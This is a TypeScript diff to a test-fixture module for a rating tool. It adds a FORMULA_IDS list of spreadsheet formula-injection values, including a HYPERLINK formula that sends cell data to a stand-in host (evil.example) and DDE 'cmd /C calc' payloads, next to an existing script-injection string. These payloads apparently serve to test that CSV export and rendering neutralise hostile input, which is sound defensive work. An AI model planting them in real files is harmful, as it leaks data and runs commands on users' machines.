@@ -13,6 +13,16 @@ export const HOSTILE_TEXTS = [
   "</div></section><script>document.title='owned'</script>",
 ] as const;
 
+/** Instruction ids that a spreadsheet would run as formulas if a CSV export wrote them verbatim. */
+export const FORMULA_IDS = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '-2+3+cmd|\' /C calc\'!A0',
+  '\t=1+1',
+  '\r=1+1',
+] as const;
+
 export interface Fixture {
   dir: string;
   instructionsFile: string;
@@ -27,19 +37,32 @@ function writeJsonl(file: string, rows: unknown[]): void {
   writeFileSync(file, rows.map((r) => JSON.stringify(r)).join('\n') + '\n');
 }
 
+export interface FixtureOptions {
+  /** The id of instruction `i` (default `task_i`). */
+  id?: (i: number) => string;
+  /** Rewrites each text of instruction `i` (default: keeps it); "echo" answers with the rewritten golden output. */
+  text?: (text: string, i: number, field: 'instruction' | 'input' | 'output' | 'markup') => string;
+}
+
 /** `count` instructions answered by two systems: "echo" repeats the golden output, "markup" answers with markup. */
-export function ratingFixture(count = 3): Fixture {
+export function ratingFixture(count = 3, options: FixtureOptions = {}): Fixture {
+  const { id = (i: number) => `task_${i}`, text = (t: string) => t } = options;
   const dir = mkdtempSync(join(tmpdir(), 'refine-af-human-'));
   const instructions = Array.from({ length: count }, (_, i) => ({
-    id: `task_${i}`,
+    id: id(i),
     motivation_app: 'Tests',
-    instruction: `Instruction ${i}: explain ${HOSTILE_TEXTS[i % HOSTILE_TEXTS.length]}`,
-    instances: [{ input: i % 2 === 0 ? `input ${i} ${HOSTILE_TEXTS[(i + 1) % HOSTILE_TEXTS.length]}` : '', output: `golden output ${i} & more` }],
+    instruction: text(`Instruction ${i}: explain ${HOSTILE_TEXTS[i % HOSTILE_TEXTS.length]}`, i, 'instruction'),
+    instances: [
+      {
+        input: text(i % 2 === 0 ? `input ${i} ${HOSTILE_TEXTS[(i + 1) % HOSTILE_TEXTS.length]}` : '', i, 'input'),
+        output: text(`golden output ${i} & more`, i, 'output'),
+      },
+    ],
   }));
   const responses: Record<string, Record<string, string>> = { echo: {}, markup: {} };
   for (const [i, instruction] of instructions.entries()) {
-    (responses.echo as Record<string, string>)[instruction.id] = `golden output ${i} & more`;
-    (responses.markup as Record<string, string>)[instruction.id] = `response ${i} ${HOSTILE_TEXTS[(i + 2) % HOSTILE_TEXTS.length]}`;
+    (responses.echo as Record<string, string>)[instruction.id] = instruction.instances[0]!.output;
+    (responses.markup as Record<string, string>)[instruction.id] = text(`response ${i} ${HOSTILE_TEXTS[(i + 2) % HOSTILE_TEXTS.length]}`, i, 'markup');
   }
   const instructionsFile = join(dir, 'instructions.jsonl');
   writeJsonl(instructionsFile, instructions);
